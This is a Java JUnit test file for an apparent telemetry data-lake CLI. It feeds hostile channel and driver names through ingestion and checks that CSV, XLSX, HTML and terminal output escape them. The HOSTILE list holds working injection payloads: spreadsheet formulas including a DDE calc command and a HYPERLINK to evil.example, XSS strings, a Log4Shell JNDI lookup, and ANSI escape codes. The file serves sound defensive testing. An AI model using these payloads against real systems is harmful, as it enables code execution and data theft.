package org.bivouac.jobs.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import org.bivouac.schemas.ChannelRow;
import org.bivouac.schemas.RunSheetRow;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names chosen to attack whoever looks at them: data in the lake, escaped wherever they are shown (B10, F2 to F5). */
class HostileTextTest {
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/\"&A1)",
            "=1+1",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\uff1dSUM(1)",
            "<script>alert(1)</script>",
            "</script><script>alert(2)</script>",
            "\"><img src=x onerror=alert(3)>",
            "<svg/onload=alert(4)>",
            "${jndi:ldap://evil.example/a}",
            "r\u001b[31med\u001b[2J",
            "javascript:alert(5)");

    @TempDir
    static Path temp;

    private static Path lake;
    private static Path report;
    private static Ran ran;

    @BeforeAll
    static void debrief() throws IOException {
        Path inbox = Files.createDirectories(temp.resolve("inbox"));
        lake = temp.resolve("lake");
        report = lake.resolve("reports/2026-dakar/3");
        Path folder = Files.createDirectories(inbox.resolve("2026/dakar/3/501"));
        StringBuilder header = new StringBuilder("time_s,Engine RPM [rpm]");
        StringBuilder row = new StringBuilder();
        for (String name : HOSTILE) {
            header.append(",\"").append(name.replace("\"", "\"\"")).append('"');
            row.append(",1");
        }
        StringBuilder text = new StringBuilder(header).append('\n');
        for (int i = 0; i < 300; i++) {
            text.append(i / 100.0).append(",2000").append(row).append('\n');
        }
        Files.writeString(folder.resolve("engine.csv"), text.toString());
        Files.writeString(folder.resolve("<img src=x onerror=alert(6)>.csv"), "=1+1,\u001b[2J${jndi:ldap://x}\n");
        StringBuilder sheets =
                new StringBuilder("year,event,stage,car,car_class,driver,mass_kg,fuel_start_l,fuel_added_l,fuel_end_l,"
                        + "fuel_density_kg_per_m3,fuel_lhv_mj_per_kg,note\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String cell = "\"" + HOSTILE.get(i).replace("\"", "\"\"") + "\"";
            sheets.append("2026,dakar,3,")
                    .append(501 + i)
                    .append(",stock,")
                    .append(cell)
                    .append(",3000,,,,,,");
            sheets.append(cell).append('\n');
        }
        Files.writeString(inbox.resolve("run-sheets.csv"), sheets.toString());
        ran = Ran.onThreads("debrief", inbox, lake);
    }

    @Test
    void b10HostileNamesAreDataInTheLake() throws IOException {
        assertThat(ran.status()).as(ran.err()).isEqualTo(3);
        assertThat(Ran.table(lake, ChannelRow.class))
                .extracting(ChannelRow::name)
                .containsAll(HOSTILE);
        assertThat(Ran.table(lake, RunSheetRow.class))
                .extracting(RunSheetRow::driver)
                .containsExactlyInAnyOrderElementsOf(HOSTILE);
    }

    @Test
    void f5NothingPrintedHoldsAControlCharacter() {
        assertThat(ran.errorLines()).singleElement().asString().contains("alert(6)");
        String printed = ran.out() + ran.err();
        for (String query : List.of(
                "SELECT name FROM channels ORDER BY 1", "SELECT driver FROM run_sheets", "SELECT * FROM rejects")) {
            Ran sql = Ran.bivouac("sql", query, "--lake", lake);
            assertThat(sql.status()).isZero();
            printed += sql.out() + sql.err();
        }
        printed += Ran.bivouac("inspect", temp.resolve("inbox/2026/dakar/3/501/engine.csv"))
                .out();
        assertThat(printed.chars().filter(c -> c != '\n' && Character.isISOControl(c)))
                .isEmpty();
        assertThat(printed).contains("r\\u001b[31med");
    }

    @Test
    void f2NoCsvCellOfTextBeginsAFormula() throws IOException {
        int quoted = 0;
        try (Stream<Path> files = Files.list(report)) {
            for (Path file :
                    files.filter(path -> path.toString().endsWith(".csv")).toList()) {
                for (List<String> row : cells(Files.readString(file))) {
                    for (String cell : row) {
                        if (!cell.matches("-?[0-9][-0-9.eE+:TZ]*")) {
                            assertThat(cell)
                                    .as(file.toString())
                                    .doesNotMatch("(?s)[-=+@\\t\\r\\n\uff1d\uff0b\uff0d\uff20].*");
                        }
                        quoted += cell.startsWith("'=1+1") ? 1 : 0;
                    }
                }
            }
        }
        assertThat(quoted).as("the names are there").isPositive();
    }

    private static List<List<String>> cells(String csv) throws IOException {
        try (org.apache.commons.csv.CSVParser parser = org.apache.commons.csv.CSVParser.parse(
                csv.replaceFirst("^\uFEFF", ""), org.apache.commons.csv.CSVFormat.RFC4180)) {
            List<List<String>> rows = new ArrayList<>();
            parser.forEach(row -> rows.add(row.toList()));
            return rows;
        }
    }

    @Test
    void f3TheWorkbookHasNoFormulaNorLink() throws IOException {
        StringBuilder all = new StringBuilder();
        try (ZipFile workbook = new ZipFile(report.resolve("tables.xlsx").toFile())) {
            for (var entry : workbook.stream().toList()) {
                assertThat(entry.getName()).doesNotContain("externalLink", "vbaProject", "connections");
                try (InputStream in = workbook.getInputStream(entry)) {
                    all.append(new String(in.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        assertThat(all).contains("=1+1").doesNotContain("<f>", "<f ", "<hyperlink", "ddeLink", "oleLink");
    }

    @Test
    void f4ThePageShowsHostileNamesAsText() throws IOException {
        String html = Files.readString(report.resolve("index.html"));
        assertThat(html)
                .contains("&lt;script&gt;alert(1)")
                .contains("default-src &#39;none&#39;")
                .doesNotContain("<script>alert", "<img src=x", "<svg/onload", "href=\"javascript", "\u001b");
    }

    @Test
    void f9TheRunsOwnFolderIsClosedToOthers() throws IOException {
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(lake.resolve("staging"))))
                .isEqualTo("rwx------");
        try (Stream<Path> left = Files.list(lake.resolve("staging"))) {
            assertThat(left).isEmpty();
        }
    }
}
